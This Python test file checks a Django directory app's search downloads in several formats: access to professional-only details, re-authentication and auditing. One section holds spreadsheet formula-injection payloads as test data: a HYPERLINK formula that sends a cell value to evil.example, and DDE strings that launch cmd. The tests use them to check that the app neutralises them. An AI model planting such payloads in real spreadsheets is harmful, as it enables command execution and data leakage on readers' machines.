"""Downloads of the current search: XLSX and CSV, spreadsheet safety, and the
re-authenticated, audited export with professional-only details."""

import csv
import io
import json

import pytest
from django.conf import settings
from django.urls import reverse
from django_otp.oath import totp
from openpyxl import load_workbook

from relais.accounts.models import AuthenticatorApp
from relais.audit.models import AuditEntry
from relais.core import sessions
from relais.directory.audit_actions import DirectoryAction
from relais.directory.models import Assurance, Organization
from relais.directory.search import index_update
from relais.directory.tests.factories import OrganizationFactory, PhoneFactory
from relais.directory.tests.sentinel_listings import (
    SECRET_ORG_EMAIL,
    SECRET_STREET,
    SENTINELS,
    make_directory,
)
from relais.opendata.exports import spreadsheet_safe

pytestmark = pytest.mark.django_db

KINDS = ("csv", "xlsx", "json", "datapackage")


@pytest.fixture
def directory(vocabularies, gazetteer):
    return make_directory()


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def xlsx_rows(data: bytes) -> list[list[str | None]]:
    workbook = load_workbook(io.BytesIO(data), read_only=True)
    sheet = workbook.worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def text_of(kind: str, data: bytes) -> str:
    """Every string an export holds, whatever its format."""
    if kind == "xlsx":
        return "\n".join(str(v) for row in xlsx_rows(data) for v in row if v)
    if kind == "datapackage":
        import zipfile

        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return "\n".join(archive.read(n).decode() for n in archive.namelist())
    return data.decode("utf-8")


# XLSX ------------------------------------------------------------------


def test_xlsx_holds_the_rows_of_the_search(directory, anonymous):
    response = anonymous.get("/en/directory/download/xlsx", {"country": "BE"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    assert response["Content-Disposition"].startswith("attachment")
    header, *listed = xlsx_rows(body(response))
    assert header[:3] == ["Identifier", "Name", "Other name"]
    assert [row[1] for row in listed] == ["Fictitious Ștefan Welcome Centre"]
    assert listed[0][4] == "Antwerpen"
    assert listed[0][7] == "+3232011690"


def test_xlsx_and_csv_have_the_same_columns_and_values(directory, anonymous):
    xlsx = xlsx_rows(body(anonymous.get("/en/directory/download/xlsx")))
    text = body(anonymous.get("/en/directory/download/csv")).decode()
    table = list(csv.reader(io.StringIO(text)))
    assert len(xlsx[0]) == len(table[0])
    assert [[v or "" for v in row] for row in xlsx[1:]] == table[1:]


@pytest.mark.parametrize("reader", ["anonymous", "member_be_client"])
def test_verified_on_is_empty_for_a_listing_from_public_sources(
    request, directory, reader
):
    client = request.getfixturevalue(reader)
    antwerp, _ = directory

    def verified_on():
        text = body(client.get("/en/directory/download/csv", {"country": "BE"}))
        header, row = list(csv.reader(io.StringIO(text.decode())))
        return row[header.index("assured_date")]

    assert verified_on() == str(antwerp.assured_date)
    Organization.objects.filter(pk=antwerp.pk).update(
        assurance=Assurance.PUBLIC_SOURCES
    )
    assert verified_on() == ""


def test_xlsx_headers_are_in_the_reader_language(directory, anonymous):
    response = anonymous.get("/fr/directory/download/xlsx")
    header = xlsx_rows(body(response))[0]
    assert "Nom" in header
    assert "Name" not in header


def test_an_empty_search_gives_a_workbook_with_headers_only(directory, anonymous):
    response = anonymous.get("/en/directory/download/xlsx", {"q": "zzzzqqq"})
    assert len(xlsx_rows(body(response))) == 1


# Formula injection -----------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example","x")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
)
def test_formulas_are_neutralised(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["+32 3 201 16 90", "+3232011690; +3233333333", "-", "Normal text"]
)
def test_phone_numbers_and_plain_text_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_a_formula_in_a_listing_is_neutralised_in_csv_and_xlsx(vocabularies, anonymous):
    evil = OrganizationFactory(
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        alternate_name="@SUM(1+1)*cmd|' /C calc'!A0",
        country="BE",
    )
    PhoneFactory(organization=evil, number="+3232011690")
    index_update(Organization.objects.values_list("pk", flat=True))

    table = list(
        csv.reader(
            io.StringIO(body(anonymous.get("/en/directory/download/csv")).decode())
        )
    )
    assert table[1][1] == "'" + evil.name
    assert table[1][2] == "'" + evil.alternate_name
    assert table[1][7] == "+3232011690"

    data = body(anonymous.get("/en/directory/download/xlsx"))
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    assert sheet["B2"].value == "'" + evil.name
    assert sheet["B2"].data_type == "s"
    assert sheet["C2"].value == "'" + evil.alternate_name
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


# Public details only --------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_anonymous_exports_hold_public_details_only(directory, anonymous, kind):
    response = anonymous.get(f"/en/directory/download/{kind}")
    text = text_of(kind, body(response))
    assert "Fictitious Ștefan Welcome Centre" in text
    assert not [s for s in SENTINELS if s in text]


@pytest.mark.parametrize("kind", KINDS)
def test_the_plain_export_is_public_for_professionals_too(
    directory, member_be_client, kind
):
    response = member_be_client.get(f"/en/directory/download/{kind}")
    text = text_of(kind, body(response))
    assert not [s for s in SENTINELS if s in text]
    assert not AuditEntry.objects.filter(action=DirectoryAction.EXPORT).exists()


def test_password_only_sessions_get_the_public_export_only(
    directory, password_only_client
):
    response = password_only_client.get("/en/directory/download/json")
    assert not [s for s in SENTINELS if s in body(response).decode()]
    response = password_only_client.get("/en/directory/download/json/professional")
    assert response.status_code == 302
    assert "/sign-in/code/" in response["Location"]


def test_anonymous_visitors_are_sent_to_sign_in_for_professional_details(
    directory, anonymous
):
    response = anonymous.get("/en/directory/download/csv/professional")
    assert response.status_code == 302
    assert "/sign-in/" in response["Location"]
    assert not AuditEntry.objects.filter(action=DirectoryAction.EXPORT).exists()


# Professional details: re-authentication and audit -----------------------


def _age_reauthentication(client) -> None:
    session = client.session
    session[sessions.REAUTHENTICATED_AT] -= settings.RELAIS_REAUTHENTICATION_SECONDS + 5
    session.save()


@pytest.mark.parametrize("kind", KINDS)
def test_a_recently_confirmed_professional_export_holds_the_details_and_is_audited(
    directory, member_be, member_be_client, kind
):
    response = member_be_client.get(
        f"/en/directory/download/{kind}/professional", {"country": "BE"}
    )
    assert response.status_code == 200
    assert "professional" in response["Content-Disposition"]
    text = text_of(kind, body(response))
    assert SECRET_ORG_EMAIL in text
    if kind not in ("csv", "xlsx"):
        assert SECRET_STREET in text
    entries = list(AuditEntry.objects.filter(action=DirectoryAction.EXPORT))
    assert len(entries) == 1
    assert entries[0].actor == str(member_be.uuid)
    assert entries[0].details == {
        "kind": kind,
        "filters": {"country": ["BE"]},
        "count": 1,
    }


def test_professional_export_asks_to_confirm_then_comes_back_to_the_download(
    directory, member_be, member_be_client
):
    _age_reauthentication(member_be_client)
    url = "/en/directory/download/xlsx/professional?q=Bruxelles+witness&country=BE"
    response = member_be_client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:reauthenticate"))
    assert not AuditEntry.objects.filter(action=DirectoryAction.EXPORT).exists()

    device = AuthenticatorApp.objects.get(user=member_be)
    code = f"{totp(device.bin_key):06d}"
    confirm = member_be_client.post(
        response["Location"],
        {"password": "fictitious-pass-phrase-1", "code": code},
    )
    assert confirm.status_code == 302
    assert confirm["Location"] == url

    download = member_be_client.get(confirm["Location"])
    assert download.status_code == 200
    xlsx_rows(body(download))
    entry = AuditEntry.objects.get(action=DirectoryAction.EXPORT)
    # The words typed may name a person: only the fact that there were some.
    assert entry.details["filters"] == {"country": ["BE"], "words": True}
    assert "witness" not in json.dumps(entry.details)


def test_a_wrong_confirmation_does_not_export(directory, member_be_client):
    _age_reauthentication(member_be_client)
    url = "/en/directory/download/csv/professional"
    response = member_be_client.get(url)
    page = member_be_client.post(
        response["Location"], {"password": "wrong pass phrase!!", "code": "000000"}
    )
    assert page.status_code == 200
    assert member_be_client.get(url).status_code == 302
    assert not AuditEntry.objects.filter(action=DirectoryAction.EXPORT).exists()


# Bad addresses ---------------------------------------------------------


def test_an_unknown_format_is_a_translated_not_found(directory, anonymous):
    response = anonymous.get("/fr/directory/download/pdf")
    assert response.status_code == 404
    assert "Page introuvable" in response.content.decode()


def test_an_unknown_professional_format_is_not_found_nor_audited(
    directory, member_be_client
):
    response = member_be_client.get("/fr/directory/download/exe/professional")
    assert response.status_code == 404
    assert "Page introuvable" in response.content.decode()
    assert not AuditEntry.objects.filter(action=DirectoryAction.EXPORT).exists()


# Links -----------------------------------------------------------------


def test_the_search_page_links_every_format(directory, anonymous):
    page = anonymous.get("/en/directory/", {"country": "BE"}).content.decode()
    for kind in KINDS:
        assert f"/en/directory/download/{kind}?country=BE" in page
    assert "/en/countries/be/directory.pdf" in page
    assert "/professional" not in page


def test_professionals_also_see_the_links_with_professional_details(
    directory, member_be_client
):
    page = member_be_client.get("/fr/directory/", {"country": "BE"}).content.decode()
    for kind in KINDS:
        assert f"/fr/directory/download/{kind}/professional?country=BE" in page
    assert "Avec les coordonnées réservées aux professionnels" in page
